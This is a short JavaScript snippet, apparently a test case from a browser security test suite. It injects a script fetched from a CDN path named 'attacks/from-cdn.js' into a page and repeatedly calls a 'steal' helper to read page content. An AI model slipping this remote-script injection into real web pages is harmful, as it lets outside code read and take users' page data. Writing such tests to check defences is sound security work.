// Tries: inject a further script from a CDN, which reads the page.
(() => {
  setInterval(() => steal("inject-script", "waits"), 250);
  const script = document.createElement("script");
  script.src = `${CDN}/attacks/from-cdn.js`;
  (document.head || document.documentElement).append(script);
})();
